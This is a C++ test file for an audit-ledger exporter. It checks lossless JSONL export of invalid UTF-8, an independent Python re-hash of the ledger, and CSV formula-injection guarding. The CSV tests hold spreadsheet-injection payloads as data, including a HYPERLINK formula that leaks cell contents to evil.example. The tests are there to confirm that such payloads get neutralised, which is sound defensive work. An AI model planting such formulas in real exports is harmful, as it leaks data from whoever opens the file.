// audit export / log output that claims to be the entry: JSON Lines keeps
// every byte (invalid UTF-8 as base64) so that an independent re-hash from
// the export alone matches the ledger; CSV cells a spreadsheet would run
// as formulas are guarded.
#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "audit/audit_util.h"
#include "audit/ledger_query.h"
#include "state/state_ops.h"
#include "util/json_document.h"

namespace retention::audit_test {
namespace {

using Json = nlohmann::json;

// The hash layout of ledger/ledger.cc, written again from its comment in
// Python: nothing of the engine's hasher is used.
constexpr const char* kRehashPy = R"py(
import base64, datetime, hashlib, json, sys

def text(v):
    if isinstance(v, dict):
        assert list(v.keys()) == ["base64"], v
        return base64.b64decode(v["base64"], validate=True)
    assert isinstance(v, str), v
    return v.encode("utf-8")

def put_text(b):
    return len(b).to_bytes(4, "big") + b

def put_int(i):
    return (8).to_bytes(4, "big") + (i & (2**64 - 1)).to_bytes(8, "big")

def micros(at):
    assert at.endswith("Z")
    day, _, clock = at[:-1].partition("T")
    whole, _, frac = clock.partition(".")
    t = datetime.datetime.strptime(day + "T" + whole, "%Y-%m-%dT%H:%M:%S").replace(tzinfo=datetime.timezone.utc)
    return int(t.timestamp()) * 1000000 + (int(frac.ljust(6, "0")) if frac else 0)

good = bad = 0
with open(sys.argv[1], "rb") as f:
    for line in f:
        e = json.loads(line)
        b = put_text(text(e["prev_hash"])) + put_int(e["seq"]) + put_int(micros(e["at"]))
        b += put_text(text(e["kind"])) + put_int(e["run"])
        for k in ["category", "store", "target", "key", "clock", "cutoff", "rule", "subject"]:
            b += put_text(text(e[k]))
        b += put_int(e["batch"]) + put_text(text(e["detail_text"]))
        if hashlib.sha256(b).hexdigest() == text(e["hash"]).decode():
            good += 1
        else:
            bad += 1
            print("mismatch at entry", e["seq"])
print("good", good, "bad", bad)
)py";

TEST_CASE("JSONL export keeps invalid UTF-8 losslessly: an independent re-hash matches", "[audit][export]") {
  LedgerFixture f(50);
  const std::string bad_key = std::string("logs/app-\xff\xfe.log");
  const std::string bad_subject = std::string("customer:caf\xe9");  // Latin-1, not UTF-8
  const std::string bad_detail = std::string("{\"path\":\"/var/log/\xff\"}");
  {
    auto db = OpenSqliteStateDb(f.state_db, false);
    REQUIRE(db.ok());
    LedgerEntry e = SyntheticEntry(51);
    e.run_id = 7;
    e.record_key = bad_key;
    e.subject = bad_subject;
    LedgerEntry k = SyntheticEntry(59);  // a kept entry
    k.run_id = 7;
    k.detail = bad_detail;
    k.category = "caf\xc3\xa9";  // valid UTF-8 stays a string
    REQUIRE(Append(**db, {e, k}).ok());
  }
  const fs::path jsonl = f.dir / "ledger.jsonl";
  auto r = f.Retention({"audit", "export", "--out", jsonl.string()});
  INFO(Describe(r));
  REQUIRE(r.exit_code == 0);
  const auto lines = JsonLines(ReadFile(jsonl));
  REQUIRE(lines.size() == 52);
  const Json& e = lines[50];
  CHECK(e.at("key") == Json{{"base64", "bG9ncy9hcHAt//4ubG9n"}});
  CHECK(e.at("subject").is_object());
  CHECK(e.at("category").is_string());
  const Json& k = lines[51];
  CHECK(k.at("category") == "caf\xc3\xa9");
  CHECK(k.at("detail_text").is_object());
  CHECK(k.at("detail").is_object());
  CHECK(k.at("detail").contains("base64"));

  // Re-hashed in Python from the export alone: every entry's hash matches.
  const fs::path script = f.dir / "rehash.py";
  WriteFile(script, kRehashPy);
  const fs::path py_out = f.dir / "rehash.out";
  const std::string cmd = "python3 " + script.string() + " " + jsonl.string() + " > " + py_out.string() + " 2>&1";
  const int rc = std::system(cmd.c_str());
  INFO(ReadFile(py_out));
  REQUIRE(rc == 0);
  CHECK(Contains(ReadFile(py_out), "good 52 bad 0"));
  // And the hashes it checked are the ledger's own.
  Db db(f.state_db, /*read_only=*/true);
  CHECK(db.Column("SELECT hash FROM ledger WHERE seq = 51")[0] == e.at("hash").get<std::string>());
  CHECK(db.Column("SELECT hash FROM ledger WHERE seq = 52")[0] == k.at("hash").get<std::string>());

  // audit log --format jsonl is the same lossless form.
  auto log = f.Retention({"audit", "log", "--format", "jsonl", "--run", "7"});
  REQUIRE(log.exit_code == 0);
  const auto logged = JsonLines(log.out);
  REQUIRE(logged.size() == 2);
  CHECK(logged[0] == e);
  CHECK(logged[1] == k);
  // audit show's JSON carries the kept entry the same way, without failing.
  auto show = f.Retention({"audit", "show", "7", "--format", "json"});
  INFO(Describe(show));
  REQUIRE(show.exit_code == 0);
  // A document omits what is absent (util/json_document.h): the export's
  // null members are not in it.
  Json k_present = k;
  DropNullMembers(&k_present);
  CHECK(Json::parse(show.out).at("kept").at(0) == k_present);
}

TEST_CASE("IsValidUtf8 accepts UTF-8 and refuses the rest", "[audit][export]") {
  for (const std::string& good : {std::string(""), std::string("plain"), std::string("caf\xc3\xa9"),
                                  std::string("\xe2\x82\xac"), std::string("\xf0\x9f\x98\x80"),
                                  std::string("nul\0inside", 10)})
    CHECK(IsValidUtf8(good));
  for (const std::string& bad :
       {std::string("\xff"), std::string("caf\xe9"), std::string("\xc3"), std::string("\xc0\xaf"),
        std::string("\xe0\x80\xaf"), std::string("\xed\xa0\x80"), std::string("\xf4\x90\x80\x80"),
        std::string("\x80")})
    CHECK_FALSE(IsValidUtf8(bad));
  CHECK(TextJson("\xff\xfe\xfd") == Json{{"base64", "//79"}});
  CHECK(TextJson("a\xff") == Json{{"base64", "Yf8="}});
}

struct CsvCase {
  std::string field;
  std::string written;
};

TEST_CASE("CSV cells a spreadsheet would run as formulas are prefixed with a quote", "[audit][export]") {
  const std::vector<CsvCase> cases = {
      {"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\""},
      {"-1", "\"'-1\""},  // a plain negative number is prefixed too
      {"+15551234", "\"'+15551234\""},
      {"@SUM(A1:A9)", "\"'@SUM(A1:A9)\""},
      {"\tcmd", "\"'\tcmd\""},
      {"\rcmd", "\"'\rcmd\""},
      {"=1+1", "\"'=1+1\""},
      {"plain", "plain"},
      {"1-2", "1-2"},
      {"a=b", "a=b"},
      {"a,b", "\"a,b\""},
      {"say \"hi\"", "\"say \"\"hi\"\"\""},
      {"", ""},
  };
  for (const CsvCase& c : cases) {
    std::ostringstream out;
    audit::WriteCsvField(c.field, out);
    INFO("field: " << c.field);
    CHECK(out.str() == c.written);
  }
}

TEST_CASE("audit export and audit log CSV guard formula keys, read back prefixed by Python", "[audit][export]") {
  LedgerFixture f(20);
  {
    auto db = OpenSqliteStateDb(f.state_db, false);
    REQUIRE(db.ok());
    LedgerEntry a = SyntheticEntry(21);
    a.run_id = 7;
    a.record_key = "=HYPERLINK(\"http://evil.example\",\"x\")";
    LedgerEntry b = SyntheticEntry(22);
    b.run_id = 7;
    b.record_key = "-1";
    b.subject = "@evil";
    REQUIRE(Append(**db, {a, b}).ok());
  }
  const fs::path csv = f.dir / "out.csv";
  auto r = f.Retention({"audit", "export", "--format", "csv", "--run", "7", "--out", csv.string()});
  INFO(Describe(r));
  REQUIRE(r.exit_code == 0);
  auto log = f.Retention({"audit", "log", "--format", "csv", "--run", "7"});
  REQUIRE(log.exit_code == 0);
  CHECK(log.out == ReadFile(csv));
  const fs::path script = f.dir / "keys.py";
  WriteFile(script,
            "import csv, sys\n"
            "with open(sys.argv[1], newline='', encoding='utf-8') as f:\n"
            "    for row in csv.DictReader(f):\n"
            "        print(row['key'] + '|' + row['subject'])\n");
  const fs::path py_out = f.dir / "keys.out";
  REQUIRE(std::system(("python3 " + script.string() + " " + csv.string() + " > " + py_out.string()).c_str()) == 0);
  CHECK(ReadFile(py_out) ==
        "'=HYPERLINK(\"http://evil.example\",\"x\")|customer:4\n"
        "'-1|'@evil\n");
}

}  // namespace
}  // namespace retention::audit_test
